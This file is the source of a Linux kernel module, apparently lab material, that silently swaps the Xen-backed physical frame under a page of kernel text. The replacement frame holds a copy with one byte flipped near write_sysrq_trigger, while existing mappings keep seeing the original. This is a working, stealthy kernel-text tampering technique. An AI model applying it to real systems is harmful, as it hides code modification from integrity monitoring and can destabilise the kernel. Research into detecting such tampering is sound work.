// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-swap - puts another frame under a page of kernel text: the guest gives
 * the page back to Xen and asks for one at the same place, which it fills with
 * the text and one byte changed.  Who had the page mapped sees the old frame,
 * which is as it was.  The guest's own tables are not touched: the address and
 * its guest frame stay, below a 2 MiB mapping, too.
 *
 * Nothing may run from the page meanwhile, nor be interrupted; here one whose
 * code only the magic key's file runs is taken, on one processor.
 */
#include <linux/irqflags.h>
#include <asm/tlbflush.h>
#include <asm/xen/hypercall.h>
#include <xen/interface/memory.h>
#include <xen/xen.h>

#include "evil.h"

#define PLACE	"write_sysrq_trigger"

static u8 *text;			/* the page */
static u8 *alias;			/* to write it by */
static u8 *copy;
static unsigned int changed;		/* offset of the byte */

/* Another frame under the page, with the bytes of the copy. */
static int swap_frame(void)
{
	xen_pfn_t gfn = __pa_symbol(text) >> PAGE_SHIFT;
	struct xen_memory_reservation reservation = {
		.nr_extents = 1,
		.extent_order = 0,
		.domid = DOMID_SELF,
	};
	unsigned long flags;
	int given, got = 0;

	set_xen_guest_handle(reservation.extent_start, &gfn);
	local_irq_save(flags);
	given = HYPERVISOR_memory_op(XENMEM_decrease_reservation,
				     &reservation);
	/* Without a page there the guest dies at the next use of it. */
	if (given == 1)
		got = HYPERVISOR_memory_op(XENMEM_populate_physmap,
					   &reservation);
	if (got == 1)
		memcpy(alias, copy, PAGE_SIZE);
	local_irq_restore(flags);
	return got == 1 ? 0 : -ENOMEM;
}

static int __init evil_init(void)
{
	u8 *at = (u8 *)evil_symbol(PLACE);
	struct page *page;
	int r = -ENOMEM;

	if (!xen_hvm_domain() || !at)
		return -ENODEV;
	text = (u8 *)((unsigned long)at & PAGE_MASK);
	changed = offset_in_page(at) + 16;
	if (changed >= PAGE_SIZE)
		return -ERANGE;
	page = pfn_to_page(__pa_symbol(text) >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	copy = (u8 *)__get_free_page(GFP_KERNEL);
	if (alias && copy) {
		memcpy(copy, text, PAGE_SIZE);
		copy[changed] ^= 1;
		r = swap_frame();
	}
	if (!r)
		return 0;
	if (alias)
		vunmap(alias);
	free_page((unsigned long)copy);
	return r;
}

static void __exit evil_exit(void)
{
	copy[changed] ^= 1;
	WARN_ON(swap_frame());
	vunmap(alias);
	free_page((unsigned long)copy);
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: another frame under a page of kernel text");
MODULE_LICENSE("GPL");
